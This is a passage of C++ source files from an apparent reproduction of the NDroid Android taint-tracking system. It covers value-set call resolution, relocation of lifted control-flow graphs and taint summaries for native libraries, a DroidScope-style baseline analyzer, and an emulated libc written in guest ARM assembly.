                   v.kind == AbsVal::Kind::kImageRel};
      return out;
    }
    default: {
      if (!is_dp(insn.op) || !dp_writes_rd(insn.op)) return out;
      const AbsVal v = eval_dp(st, insn, pc, thumb);
      if (!is_abs(v) || !v.is_singleton()) return out;
      // The executor's DP-to-PC path interworks, same as BX.
      const u32 raw = abs_member(v, 0);
      if (((raw & 1) != 0) != thumb) return out;
      const GuestAddr target = raw & ~1u;
      if (!thumb && (raw & 3) != 0) return out;
      if (!in_code(target)) return out;
      add_target(target);
      out.resolved = true;
      out.table = {JumpTableKind::kComputed, target, 1,
                   v.kind == AbsVal::Kind::kImageRel};
      return out;
    }
  }
}

Vsa::ResolvedCall Vsa::resolve_call(const VsaState& st,
                                    const Insn& insn) const {
  ResolvedCall out;
  if (insn.op != Op::kBlxReg || insn.rm >= 16) return out;
  const AbsVal v = st.regs[insn.rm];
  if (!is_abs(v) || !v.is_singleton()) return out;
  const GuestAddr target = abs_member(v, 0);
  // Address 0 collides with the unresolved-call sentinel; leave it gapped.
  if (target == kUnresolvedCallTarget) return out;
  out.resolved = true;
  out.target = target;  // bit 0 = Thumb, as BLX interworks
  out.image_rel = v.kind == AbsVal::Kind::kImageRel;
  return out;
}

}  // namespace ndroid::static_analysis
