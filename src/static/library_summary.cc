#include "static/library_summary.h"

#include <algorithm>

namespace ndroid::static_analysis {

u64 fnv1a(std::span<const u8> bytes, u64 seed) {
  u64 h = seed;
  for (const u8 b : bytes) {
    h ^= b;
    h *= 0x100000001b3ull;
  }
  return h;
}

namespace {

u64 fnv1a_u32(u32 v, u64 h) {
  for (int i = 0; i < 4; ++i) {
    h ^= (v >> (8 * i)) & 0xFF;
    h *= 0x100000001b3ull;
  }
  return h;
}

}  // namespace

u64 library_key(std::span<const u8> image,
                const std::vector<FunctionEntry>& entries, GuestAddr base) {
  u64 h = fnv1a(image);
  // Entry *offsets* only — not names and not order. Names carry app-side
  // identity (the registering class's descriptor), and two apps registering
  // the same .so must share one artifact; what the analysis depends on is
  // where lifting starts, which the offsets capture completely. The labels
  // baked into a shared snapshot are therefore the first lifter's.
  std::vector<u32> offs;
  offs.reserve(entries.size());
  for (const FunctionEntry& e : entries) {
    offs.push_back(static_cast<u32>(e.addr - base));
  }
  std::sort(offs.begin(), offs.end());
  offs.erase(std::unique(offs.begin(), offs.end()), offs.end());
  for (const u32 off : offs) h = fnv1a_u32(off, h);
  return h;
}

LibrarySummary analyze_library(const mem::AddressSpace& memory,
                               const CodeRegion& region,
                               const std::vector<FunctionEntry>& entries) {
  LibrarySummary lib;
  lib.name = region.name;
  lib.lifted_base = region.start;
  lib.image_size = static_cast<u32>(region.end - region.start);

  std::vector<u8> image(lib.image_size);
  memory.read_bytes(region.start, image);
  lib.key = library_key(image, entries, region.start);

  const CfgLifter lifter(memory, {region});
  lib.program = lifter.lift(entries);
  lib.index = summarize(lib.program);
  for (const auto& [entry, fn] : lib.program.functions) {
    std::unordered_set<GuestAddr>& bounds = lib.boundaries[entry];
    for (const auto& [start, bb] : fn.blocks) {
      GuestAddr pc = bb.start;
      for (const arm::Insn& insn : bb.insns) {
        bounds.insert(pc);
        pc += insn.length;
      }
    }
  }
  return lib;
}

namespace {

/// Relocates one function's CFG by `delta`. PC-relative structure — block
/// addresses, successors, BL targets, and anything the value-set analysis
/// proved image-relative (literal windows, PC-derived jump tables and call
/// targets) — shifts exactly. Only facts anchored to *absolute* addresses
/// (materialised MOVW/MOVT constants, word jump tables whose entries are
/// absolute code pointers) go stale; each such loss is recorded as a
/// kStale* degradation site.
FunctionCfg relocate_cfg(const FunctionCfg& fn, GuestAddr delta,
                         GuestAddr image_lo, GuestAddr image_hi) {
  FunctionCfg out;
  out.entry = fn.entry + delta;
  out.thumb = fn.thumb;
  out.name = fn.name;
  out.lo = fn.lo + delta;
  out.hi = fn.hi + delta;
  out.has_svc = fn.has_svc;
  out.truncated = fn.truncated;
  out.insn_count = fn.insn_count;

  // Original degradations travel with the code; stale ones are appended.
  for (const DegradeSite& site : fn.degrade_sites) {
    out.degrade(site.pc + delta, site.reason);
  }

  for (const auto& [start, bb] : fn.blocks) {
    BasicBlock nb;
    nb.start = bb.start + delta;
    nb.end = bb.end + delta;
    nb.insns = bb.insns;
    nb.is_return = bb.is_return;
    nb.has_indirect_jump = bb.has_indirect_jump;
    nb.has_indirect_call = bb.has_indirect_call;
    for (const GuestAddr s : bb.succs) nb.succs.push_back(s + delta);

    // A resolved indirect branch survives the rebase iff its successor set
    // shifts uniformly with the code: TBB/TBH and computed branches through
    // a PC-derived base do (their targets are code-relative offsets), while
    // word tables hold absolute code pointers and always go stale — the
    // block degrades back to has_indirect_jump truncation.
    GuestAddr term_pc = nb.end;
    if (!nb.insns.empty()) term_pc -= nb.insns.back().length;
    nb.jump_table = bb.jump_table;
    if (bb.jump_table.kind != JumpTableKind::kNone) {
      const bool survives =
          bb.jump_table.image_rel &&
          bb.jump_table.kind != JumpTableKind::kWordTable;
      if (survives) {
        nb.jump_table.table = bb.jump_table.table + delta;
      } else {
        nb.jump_table = JumpTable{};
        nb.has_indirect_jump = true;
        out.degrade(term_pc, DegradeReason::kStaleJumpTable);
      }
    }

    // Call sites in block order, guided by the per-site relocatable flag:
    // BL targets are PC-relative and always move; a resolved BLX target
    // moves only when VSA proved the value PC-derived, else it points at
    // the old absolute address and the site regresses to unresolved.
    GuestAddr pc = bb.start;
    std::size_t call_idx = 0;
    for (const arm::Insn& insn : bb.insns) {
      const GuestAddr site_pc = pc;
      pc += insn.length;
      if (insn.op != arm::Op::kBl && insn.op != arm::Op::kBlxReg) continue;
      if (call_idx >= bb.call_targets.size()) break;
      const GuestAddr target = bb.call_targets[call_idx];
      const bool relocatable =
          call_idx < bb.call_target_relocatable.size() &&
          bb.call_target_relocatable[call_idx] != 0;
      ++call_idx;
      if (target != kUnresolvedCallTarget &&
          (insn.op == arm::Op::kBl || relocatable)) {
        nb.call_targets.push_back(target + delta);
        nb.call_target_relocatable.push_back(1);
        continue;
      }
      nb.call_targets.push_back(kUnresolvedCallTarget);
      nb.call_target_relocatable.push_back(0);
      nb.has_indirect_call = true;
      if (target != kUnresolvedCallTarget) {
        // Was resolved before the rebase; the absolute constant went stale.
        out.degrade(site_pc + delta, DegradeReason::kStaleCallTarget);
      }
    }
    out.blocks.emplace(nb.start, std::move(nb));
  }

  // Callees: rebuilt from the relocated, still-resolved call sites. The
  // filter is the whole relocated image, matching the lifter's in_code().
  for (const auto& [start, bb] : out.blocks) {
    for (const GuestAddr t : bb.call_targets) {
      if (t != kUnresolvedCallTarget && (t & ~1u) >= image_lo &&
          (t & ~1u) < image_hi) {
        out.callees.push_back(t);
      }
    }
  }
  std::sort(out.callees.begin(), out.callees.end());
  out.callees.erase(std::unique(out.callees.begin(), out.callees.end()),
                    out.callees.end());

  // Access sites shift with their instructions. Image-relative windows
  // (literal pools, PC-derived bases) re-resolve at the new base; windows
  // built from absolute constants no longer describe anything and degrade.
  for (const MemAccess& a : fn.mem_accesses) {
    MemAccess na = a;
    na.pc = a.pc + delta;
    if (na.kind == MemAccess::Kind::kConstAddr) {
      if (na.image_rel) {
        na.addr = a.addr + delta;
      } else {
        na.kind = MemAccess::Kind::kUnknown;
        na.addr = 0;
        out.degrade(na.pc, DegradeReason::kStaleAbsoluteConst);
      }
    }
    out.mem_accesses.push_back(na);
  }

  // Precision counters and roll-up flags, recomputed from the relocated
  // blocks (stale resolutions moved between the buckets above).
  for (const auto& [start, bb] : out.blocks) {
    if (bb.has_indirect_jump) {
      ++out.unresolved_indirect_branches;
    } else if (bb.jump_table.kind != JumpTableKind::kNone) {
      ++out.resolved_indirect_branches;
    }
    out.has_indirect_jumps = out.has_indirect_jumps || bb.has_indirect_jump;
    out.has_indirect_calls = out.has_indirect_calls || bb.has_indirect_call;
    std::size_t call_idx = 0;
    for (const arm::Insn& insn : bb.insns) {
      if (insn.op != arm::Op::kBlxReg) {
        if (insn.op == arm::Op::kBl) ++call_idx;
        continue;
      }
      if (call_idx >= bb.call_targets.size()) break;
      if (bb.call_targets[call_idx] == kUnresolvedCallTarget) {
        ++out.unresolved_indirect_calls;
      } else {
        ++out.resolved_indirect_calls;
      }
      ++call_idx;
    }
  }
  return out;
}

}  // namespace

std::shared_ptr<const LibrarySummary> bind_library(
    std::shared_ptr<const LibrarySummary> lib, GuestAddr base) {
  if (lib == nullptr || base == lib->lifted_base) return lib;

  const GuestAddr delta = base - lib->lifted_base;
  auto bound = std::make_shared<LibrarySummary>();
  bound->key = lib->key;
  bound->name = lib->name;
  bound->lifted_base = base;
  bound->image_size = lib->image_size;
  for (const auto& [entry, fn] : lib->program.functions) {
    bound->program.functions.emplace(
        entry + delta,
        relocate_cfg(fn, delta, base, base + lib->image_size));
  }
  // Re-run the interprocedural summary fixed point over the relocated CFGs
  // instead of degrading every call-site function to worst-case facts: the
  // structure (including image-relative windows, surviving jump tables and
  // relocatable call edges) is exact, so the dataflow recomputes genuine
  // arg-flow facts — only the recorded kStale* degradations weaken.
  bound->index = summarize(bound->program);
  for (const auto& [entry, bounds] : lib->boundaries) {
    std::unordered_set<GuestAddr>& shifted = bound->boundaries[entry + delta];
    shifted.reserve(bounds.size());
    for (const GuestAddr pc : bounds) shifted.insert(pc + delta);
  }
  return bound;
}

}  // namespace ndroid::static_analysis
