#include "static/library_summary.h"

#include <algorithm>

namespace ndroid::static_analysis {

u64 fnv1a(std::span<const u8> bytes, u64 seed) {
  u64 h = seed;
  for (const u8 b : bytes) {
    h ^= b;
    h *= 0x100000001b3ull;
  }
  return h;
}

namespace {

u64 fnv1a_u32(u32 v, u64 h) {
  for (int i = 0; i < 4; ++i) {
    h ^= (v >> (8 * i)) & 0xFF;
    h *= 0x100000001b3ull;
  }
  return h;
}

}  // namespace

u64 library_key(std::span<const u8> image,
                const std::vector<FunctionEntry>& entries, GuestAddr base) {
  u64 h = fnv1a(image);
  // Entry *offsets* only — not names and not order. Names carry app-side
  // identity (the registering class's descriptor), and two apps registering
  // the same .so must share one artifact; what the analysis depends on is
  // where lifting starts, which the offsets capture completely. The labels
  // baked into a shared snapshot are therefore the first lifter's.
  std::vector<u32> offs;
  offs.reserve(entries.size());
  for (const FunctionEntry& e : entries) {
    offs.push_back(static_cast<u32>(e.addr - base));
  }
  std::sort(offs.begin(), offs.end());
  offs.erase(std::unique(offs.begin(), offs.end()), offs.end());
  for (const u32 off : offs) h = fnv1a_u32(off, h);
  return h;
}

LibrarySummary analyze_library(const mem::AddressSpace& memory,
                               const CodeRegion& region,
                               const std::vector<FunctionEntry>& entries) {
  LibrarySummary lib;
  lib.name = region.name;
  lib.lifted_base = region.start;
  lib.image_size = static_cast<u32>(region.end - region.start);

  std::vector<u8> image(lib.image_size);
  memory.read_bytes(region.start, image);
  lib.key = library_key(image, entries, region.start);

  const CfgLifter lifter(memory, {region});
  lib.program = lifter.lift(entries);
  lib.index = summarize(lib.program);
  for (const auto& [entry, fn] : lib.program.functions) {
    std::unordered_set<GuestAddr>& bounds = lib.boundaries[entry];
    for (const auto& [start, bb] : fn.blocks) {
      GuestAddr pc = bb.start;
      for (const arm::Insn& insn : bb.insns) {
        bounds.insert(pc);
        pc += insn.length;
      }
    }
  }
  return lib;
}

namespace {

/// Relocates one function's CFG by `delta`. PC-relative structure (block
/// addresses, successors, BL targets) shifts exactly; BLX-through-constant
/// targets keep pointing at the old absolute addresses, so they become
/// unresolved indirect calls.
FunctionCfg relocate_cfg(const FunctionCfg& fn, GuestAddr delta) {
  FunctionCfg out;
  out.entry = fn.entry + delta;
  out.thumb = fn.thumb;
  out.name = fn.name;
  out.lo = fn.lo + delta;
  out.hi = fn.hi + delta;
  out.has_svc = fn.has_svc;
  out.has_indirect_jumps = fn.has_indirect_jumps;
  out.truncated = fn.truncated;
  out.insn_count = fn.insn_count;
  out.has_indirect_calls = fn.has_indirect_calls;

  for (const auto& [start, bb] : fn.blocks) {
    BasicBlock nb;
    nb.start = bb.start + delta;
    nb.end = bb.end + delta;
    nb.insns = bb.insns;
    nb.is_return = bb.is_return;
    nb.has_indirect_jump = bb.has_indirect_jump;
    nb.has_indirect_call = bb.has_indirect_call;
    for (const GuestAddr s : bb.succs) nb.succs.push_back(s + delta);
    // Call sites in block order: kBl targets are PC-relative and move with
    // the code; kBlxReg targets were materialised constants and do not.
    std::size_t call_idx = 0;
    for (const arm::Insn& insn : bb.insns) {
      if (insn.op != arm::Op::kBl && insn.op != arm::Op::kBlxReg) continue;
      if (call_idx >= bb.call_targets.size()) break;
      GuestAddr target = bb.call_targets[call_idx];
      if (insn.op == arm::Op::kBl) {
        nb.call_targets.push_back(target == 0 ? 0 : target + delta);
      } else {
        nb.call_targets.push_back(0);  // constant target: stale, unresolved
        nb.has_indirect_call = true;
        out.has_indirect_calls = true;
      }
      ++call_idx;
    }
    out.blocks.emplace(nb.start, std::move(nb));
  }

  // Callees: rebuilt from the relocated call sites (BL edges only — the
  // stale BLX constants were dropped above).
  for (const auto& [start, bb] : out.blocks) {
    for (const GuestAddr t : bb.call_targets) {
      if (t != 0 && (t & ~1u) >= out.lo && (t & ~1u) < out.hi) {
        out.callees.push_back(t);
      }
    }
  }
  std::sort(out.callees.begin(), out.callees.end());
  out.callees.erase(std::unique(out.callees.begin(), out.callees.end()),
                    out.callees.end());

  // Access sites shift with their instructions; constant addresses computed
  // by the (unmoved) MOVW/MOVT and literal values no longer describe the
  // code's windows, so they degrade to unknown.
  for (const MemAccess& a : fn.mem_accesses) {
    MemAccess na = a;
    na.pc = a.pc + delta;
    if (na.kind == MemAccess::Kind::kConstAddr) {
      na.kind = MemAccess::Kind::kUnknown;
      na.addr = 0;
    }
    out.mem_accesses.push_back(na);
  }
  return out;
}

/// Relocates one summary. Structural register facts survive; everything
/// that can encode an absolute address degrades conservatively.
TaintSummary relocate_summary(const TaintSummary& s, const FunctionCfg& fn,
                              GuestAddr delta) {
  TaintSummary out;
  out.entry = s.entry + delta;
  out.name = s.name;
  out.touched_regs = s.touched_regs;
  out.has_svc = s.has_svc;
  out.truncated = s.truncated;

  // Constant windows reference pre-relocation absolute addresses.
  const bool had_const_windows =
      s.mem_kind == MemKind::kStatic || !s.windows.empty();
  if (had_const_windows) {
    out.mem_kind = MemKind::kOpaque;
  } else {
    out.mem_kind = s.mem_kind;  // kNone / pure kStack / already kOpaque
  }

  bool has_calls = fn.has_indirect_calls;
  for (const auto& [start, bb] : fn.blocks) {
    has_calls = has_calls || !bb.call_targets.empty();
  }
  if (has_calls) {
    // Callee facts may have flowed through BLX-constant edges that are now
    // stale; take the worst-case bounds the dataflow uses for unresolved
    // targets.
    out.args_to_ret = 0x0F;
    out.args_to_mem = 0x0F;
    out.args_to_call = 0x0F;
    out.ret_depends_on_mem = true;
    out.unresolved_calls = true;
    out.transparent = false;
  } else {
    out.args_to_ret = s.args_to_ret;
    out.args_to_mem = s.args_to_mem;
    out.args_to_call = s.args_to_call;
    out.ret_depends_on_mem = s.ret_depends_on_mem;
    out.unresolved_calls = s.unresolved_calls;
    // Transparency required kNone memory and no calls, both of which
    // relocate losslessly for call-free functions.
    out.transparent = s.transparent && out.mem_kind == MemKind::kNone;
  }
  return out;
}

}  // namespace

std::shared_ptr<const LibrarySummary> bind_library(
    std::shared_ptr<const LibrarySummary> lib, GuestAddr base) {
  if (lib == nullptr || base == lib->lifted_base) return lib;

  const GuestAddr delta = base - lib->lifted_base;
  auto bound = std::make_shared<LibrarySummary>();
  bound->key = lib->key;
  bound->name = lib->name;
  bound->lifted_base = base;
  bound->image_size = lib->image_size;
  for (const auto& [entry, fn] : lib->program.functions) {
    bound->program.functions.emplace(entry + delta, relocate_cfg(fn, delta));
  }
  for (const auto& [entry, s] : lib->index.summaries) {
    const FunctionCfg& fn = lib->program.functions.at(entry);
    bound->index.summaries.emplace(entry + delta,
                                   relocate_summary(s, fn, delta));
  }
  for (const auto& [entry, bounds] : lib->boundaries) {
    std::unordered_set<GuestAddr>& shifted = bound->boundaries[entry + delta];
    shifted.reserve(bounds.size());
    for (const GuestAddr pc : bounds) shifted.insert(pc + delta);
  }
  return bound;
}

}  // namespace ndroid::static_analysis
