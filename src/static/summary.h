// Per-function taint summaries over the lifted CFGs.
//
// Two result families, both consumed by the dynamic layer:
//
//  * A *skip certificate* for the summary-gated fast path: the set of
//    registers the function's taint rules can read or write
//    (`touched_regs`), and a classification of every memory access
//    (none / statically-known constant windows / stack-frame only /
//    opaque). When the live taint state provably cannot intersect either
//    set, running the instruction tracer over the function writes
//    clear-over-clear everywhere — skipping it leaves the shadow state
//    bit-identical (see NDroid::block_gate).
//
//  * *Arg-flow facts* for reporting and hook pre-placement: which argument
//    registers (r0-r3) can flow to the return value, to memory stores, or
//    to outgoing call arguments, computed by a forward register def-use
//    dataflow (joins at block entries, kills on definite writes) iterated
//    to a bounded fixed point over the call graph.
//    A function with no memory effects, no calls, no SVC and an
//    argument-independent return value is `transparent`: the DVM hook
//    engine skips building a SourcePolicy for it entirely.
//
// Everything degrades conservatively: indirect calls, truncated lifts and
// unmodelled instructions make a summary opaque, and opaque summaries are
// never used to skip anything.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "static/cfg.h"

namespace ndroid::static_analysis {

/// How a function touches guest memory, ordered by how much the dynamic
/// gate must know before skipping it (see NDroid::block_gate).
enum class MemKind : u8 {
  kNone,    // no loads or stores anywhere (pure register function)
  kStatic,  // every access within statically-known constant windows
  kStack,   // accesses confined to constant windows + SP-relative slots
  kOpaque,  // at least one unresolvable access (or unresolved callee)
};

struct Window {
  GuestAddr lo = 0;
  GuestAddr hi = 0;  // exclusive
};

struct TaintSummary {
  GuestAddr entry = 0;  // Thumb bit stripped
  std::string name;

  /// Registers this function's own Table V rules may read or write,
  /// including load/store bases (the address-taint rule). Deliberately
  /// function-local: callees' blocks carry their own summaries, and every
  /// call boundary ends a translation block, so the dynamic gate
  /// re-evaluates there (see NDroid::block_gate).
  u16 touched_regs = 0;
  MemKind mem_kind = MemKind::kOpaque;
  /// Merged constant-address windows (meaningful for kStatic; kept for
  /// kStack too, where they describe the non-stack accesses).
  std::vector<Window> windows;
  bool has_svc = false;
  /// Lift hit the instruction budget: the facts are not a superset of the
  /// function's behaviour, so the gate must never skip on them.
  bool truncated = false;
  /// Some call target could not be resolved inside the lifted program;
  /// the arg-flow facts below are conservative upper bounds.
  bool unresolved_calls = false;

  // Arg-flow facts (bit i = argument register ri, i in 0..3).
  u8 args_to_ret = 0;
  u8 args_to_mem = 0;
  u8 args_to_call = 0;
  bool ret_depends_on_mem = false;

  /// No memory effects, no calls, no SVC, return value independent of the
  /// arguments: hooking this JNI method can never observe or move taint.
  bool transparent = false;

  [[nodiscard]] bool opaque() const {
    return truncated || mem_kind == MemKind::kOpaque;
  }
};

class SummaryIndex {
 public:
  /// Keyed by function entry (Thumb bit stripped).
  std::map<GuestAddr, TaintSummary> summaries;

  [[nodiscard]] const TaintSummary* find(GuestAddr entry) const {
    auto it = summaries.find(entry & ~1u);
    return it == summaries.end() ? nullptr : &it->second;
  }
};

/// Number of whole-call-graph passes of the arg-flow fixed point. Chains of
/// depth > kCallGraphPasses simply stay conservative.
inline constexpr int kCallGraphPasses = 4;

[[nodiscard]] SummaryIndex summarize(const Program& program);

}  // namespace ndroid::static_analysis
