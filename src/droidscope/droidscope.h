// DroidScope-style baseline analyzer (paper §II-C).
//
// DroidScope "tracks information flow at the instruction level by enhancing
// QEMU and it may incur 11 to 34 times slowdown ... Moreover, DroidScope did
// not report new information flows through JNI than TaintDroid."
//
// This baseline therefore:
//  * traces EVERY guest instruction (no third-party scope restriction, no
//    Table VI models) through the same Table V logic;
//  * reconstructs DVM-level semantics from raw machine state on every
//    bytecode the interpreter executes — modeled as walking the current
//    frame's registers in guest memory, the cost DroidScope pays for
//    rebuilding the "Dalvik semantic view" without libdvm cooperation;
//  * adds no JNI semantic hooks and no native sink checks — its detection
//    capability is TaintDroid-equivalent for the Table I scenarios.
#pragma once

#include <memory>

#include "android/device.h"
#include "core/ndroid.h"

namespace ndroid::droidscope {

class DroidScope {
 public:
  explicit DroidScope(android::Device& device);
  ~DroidScope();

  DroidScope(const DroidScope&) = delete;
  DroidScope& operator=(const DroidScope&) = delete;

  [[nodiscard]] u64 instructions_traced() const {
    return engine_->tracer().instructions_traced();
  }
  [[nodiscard]] u64 dvm_reconstructions() const {
    return dvm_reconstructions_;
  }

 private:
  android::Device& device_;
  std::unique_ptr<core::NDroid> engine_;
  mem::ShadowMemory scratch_shadow_;
  int helper_hook_id_ = 0;
  u64 dvm_reconstructions_ = 0;
  u32 checksum_ = 0;  // keeps the reconstruction loop observable
};

}  // namespace ndroid::droidscope
