#include "droidscope/droidscope.h"

namespace ndroid::droidscope {

DroidScope::DroidScope(android::Device& device) : device_(device) {
  engine_ = std::make_unique<core::NDroid>(
      device_, core::NDroidConfig::droidscope_mode());

  // Helper-backed library bodies (malloc, stdio, libm, DVM internals) are
  // host implementations in this reproduction; real DroidScope traces their
  // full machine code. Charge the instruction-level-tracing equivalent of a
  // representative body whenever control enters the helper window.
  constexpr u32 kModeledBodyInsns = 120;
  helper_hook_id_ = device_.cpu.add_branch_hook(
      [this](arm::Cpu&, GuestAddr, GuestAddr to) {
        if (to < 0xF0000000u) return;
        for (u32 i = 0; i < kModeledBodyInsns; ++i) {
          scratch_shadow_.add(0x1000 + (i & 0xFF), 0);
          checksum_ += scratch_shadow_.get(0x1000 + (i & 0xFF));
        }
      });

  // Dalvik semantic-view reconstruction: on every bytecode, re-derive the
  // frame contents from raw guest memory (DroidScope infers interpreter
  // state from machine instructions; reading the register file back out of
  // the DVM stack is the equivalent per-bytecode work).
  device_.dvm.set_dvm_insn_observer(
      [this](const dvm::Method& method, const dvm::DInsn&) {
        ++dvm_reconstructions_;
        const GuestAddr fp = device_.dvm.stack().current_fp();
        if (fp == 0) return;
        u32 sum = 0;
        for (u32 i = 0; i < method.registers_size; ++i) {
          sum += device_.memory.read32(fp + 8 * i);
          sum ^= device_.memory.read32(fp + 8 * i + 4);
        }
        checksum_ += sum;
      });
}

DroidScope::~DroidScope() {
  device_.dvm.set_dvm_insn_observer({});
  device_.cpu.remove_branch_hook(helper_hook_id_);
}

}  // namespace ndroid::droidscope
