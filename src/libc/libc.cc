#include "libc/libc.h"

#include <bit>
#include <cctype>
#include <cmath>
#include <cstdlib>

#include "arm/assembler.h"

namespace ndroid::libc {

using arm::Assembler;
using arm::Cond;
using arm::IP;
using arm::Label;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;

Libc::Libc(arm::Cpu& cpu, os::Kernel& kernel, GuestAddr libc_base,
           u32 libc_size, GuestAddr libm_base, u32 libm_size)
    : cpu_(cpu), kernel_(kernel) {
  cpu_.memmap().add("libc.so", libc_base, libc_size, mem::kRX);
  code_bump_ = libc_base;
  code_end_ = libc_base + libc_size - 0x800;
  file_struct_bump_ = libc_base + libc_size - 0x800;  // FILE structs

  build_asm_string_functions(libc_base, code_end_);
  build_stdio(libc_base);
  build_syscall_wrappers();
  build_libm(libm_base, libm_size);
}

GuestAddr Libc::fn(const std::string& name) const {
  auto it = symbols_.find(name);
  if (it == symbols_.end()) throw GuestFault("no libc symbol: " + name);
  return it->second;
}

GuestAddr Libc::add_asm(const std::string& name,
                        const std::function<void(Assembler&)>& body) {
  Assembler a(code_bump_);
  body(a);
  const auto code = a.finish();
  if (code_bump_ + code.size() > code_end_) {
    throw GuestFault("libc code space exhausted");
  }
  cpu_.memory().write_bytes(code_bump_, code);
  const GuestAddr addr = code_bump_;
  code_bump_ += (static_cast<u32>(code.size()) + 3) & ~3u;
  symbols_[name] = addr;
  return addr;
}

GuestAddr Libc::add_helper(const std::string& name, arm::Helper helper) {
  const GuestAddr addr = cpu_.register_helper_auto(std::move(helper));
  symbols_[name] = addr;
  return addr;
}

// ---------------------------------------------------------------------------
// malloc / free (helper-backed)
// ---------------------------------------------------------------------------

GuestAddr Libc::malloc_guest(u32 size) {
  ++mallocs_;
  const u32 rounded = std::max<u32>((size + 15) & ~15u, 16);
  auto& bucket = free_lists_[rounded];
  GuestAddr addr;
  if (!bucket.empty()) {
    addr = bucket.back();
    bucket.pop_back();
  } else {
    addr = kernel_.mmap_anonymous(rounded);
  }
  block_size_[addr] = rounded;
  return addr;
}

void Libc::free_guest(GuestAddr addr) {
  if (addr == 0) return;
  auto it = block_size_.find(addr);
  if (it == block_size_.end()) return;  // foreign pointer: ignore, like bionic won't
  free_lists_[it->second].push_back(addr);
  block_size_.erase(it);
}

// ---------------------------------------------------------------------------
// String/memory functions in genuine guest assembly
// ---------------------------------------------------------------------------

void Libc::build_asm_string_functions(GuestAddr /*base*/, GuestAddr /*end*/) {
  // void* memcpy(dst, src, n) — byte loop, returns dst.
  add_asm("memcpy", [](Assembler& a) {
    Label loop, done;
    a.mov(R(3), R(0));
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.ldrb_post(IP, R(1), 1);
    a.strb_post(IP, R(3), 1);
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(done);
    a.ret();
  });

  // void* memmove(dst, src, n) — picks direction for overlap.
  add_asm("memmove", [](Assembler& a) {
    Label fwd, fwd_loop, bwd_loop, done;
    a.cmp(R(0), R(1));
    a.b(fwd, Cond::kLS);  // dst <= src: forward copy
    // dst > src: copy backward from the end.
    a.add(R(3), R(0), R(2));  // dst end
    a.add(R(1), R(1), R(2));  // src end
    a.bind(bwd_loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.ldrb_pre(IP, R(1), -1);
    a.strb_pre(IP, R(3), -1);
    a.sub_imm(R(2), R(2), 1);
    a.b(bwd_loop);
    a.bind(fwd);
    a.mov(R(3), R(0));
    a.bind(fwd_loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.ldrb_post(IP, R(1), 1);
    a.strb_post(IP, R(3), 1);
    a.sub_imm(R(2), R(2), 1);
    a.b(fwd_loop);
    a.bind(done);
    a.ret();
  });

  // void* memset(s, c, n) — returns s.
  add_asm("memset", [](Assembler& a) {
    Label loop, done;
    a.mov(R(3), R(0));
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.strb_post(R(1), R(3), 1);
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(done);
    a.ret();
  });

  // size_t strlen(s)
  add_asm("strlen", [](Assembler& a) {
    Label loop, done;
    a.mov(R(1), R(0));
    a.bind(loop);
    a.ldrb_post(IP, R(1), 1);
    a.cmp_imm(IP, 0);
    a.b(loop, Cond::kNE);
    a.sub(R(0), R(1), R(0));
    a.sub_imm(R(0), R(0), 1);
    a.ret();
    a.bind(done);
  });

  // char* strcpy(dst, src) — returns dst.
  add_asm("strcpy", [](Assembler& a) {
    Label loop;
    a.mov(R(2), R(0));
    a.bind(loop);
    a.ldrb_post(IP, R(1), 1);
    a.strb_post(IP, R(2), 1);
    a.cmp_imm(IP, 0);
    a.b(loop, Cond::kNE);
    a.ret();
  });

  // char* strncpy(dst, src, n)
  add_asm("strncpy", [](Assembler& a) {
    Label loop, pad, done;
    a.mov(R(3), R(0));
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.ldrb_post(IP, R(1), 1);
    a.strb_post(IP, R(3), 1);
    a.sub_imm(R(2), R(2), 1);
    a.cmp_imm(IP, 0);
    a.b(loop, Cond::kNE);
    // pad remaining with zeros
    a.mov_imm(IP, 0);
    a.bind(pad);
    a.cmp_imm(R(2), 0);
    a.b(done, Cond::kEQ);
    a.strb_post(IP, R(3), 1);
    a.sub_imm(R(2), R(2), 1);
    a.b(pad);
    a.bind(done);
    a.ret();
  });

  // int strcmp(a, b)
  add_asm("strcmp", [](Assembler& a) {
    Label loop, diff;
    a.bind(loop);
    a.ldrb_post(R(2), R(0), 1);
    a.ldrb_post(R(3), R(1), 1);
    a.cmp(R(2), R(3));
    a.b(diff, Cond::kNE);
    a.cmp_imm(R(2), 0);
    a.b(loop, Cond::kNE);
    a.mov_imm(R(0), 0);
    a.ret();
    a.bind(diff);
    a.sub(R(0), R(2), R(3));
    a.ret();
  });

  // int strncmp(a, b, n)
  add_asm("strncmp", [](Assembler& a) {
    Label loop, diff, zero;
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(zero, Cond::kEQ);
    a.ldrb_post(R(3), R(0), 1);
    a.ldrb_post(IP, R(1), 1);
    a.cmp(R(3), IP);
    a.b(diff, Cond::kNE);
    a.sub_imm(R(2), R(2), 1);
    a.cmp_imm(R(3), 0);
    a.b(loop, Cond::kNE);
    a.bind(zero);
    a.mov_imm(R(0), 0);
    a.ret();
    a.bind(diff);
    a.sub(R(0), R(3), IP);
    a.ret();
  });

  // int memcmp(a, b, n)
  add_asm("memcmp", [](Assembler& a) {
    Label loop, diff, zero;
    a.bind(loop);
    a.cmp_imm(R(2), 0);
    a.b(zero, Cond::kEQ);
    a.ldrb_post(R(3), R(0), 1);
    a.ldrb_post(IP, R(1), 1);
    a.cmp(R(3), IP);
    a.b(diff, Cond::kNE);
    a.sub_imm(R(2), R(2), 1);
    a.b(loop);
    a.bind(zero);
    a.mov_imm(R(0), 0);
    a.ret();
    a.bind(diff);
    a.sub(R(0), R(3), IP);
    a.ret();
  });

  // char* strcat(dst, src)
  add_asm("strcat", [](Assembler& a) {
    Label seek, copy;
    a.mov(R(2), R(0));
    a.bind(seek);  // find NUL of dst
    a.ldrb(IP, R(2), 0);
    a.cmp_imm(IP, 0);
    a.add_imm(R(2), R(2), 1);
    a.b(seek, Cond::kNE);
    a.sub_imm(R(2), R(2), 1);
    a.bind(copy);
    a.ldrb_post(IP, R(1), 1);
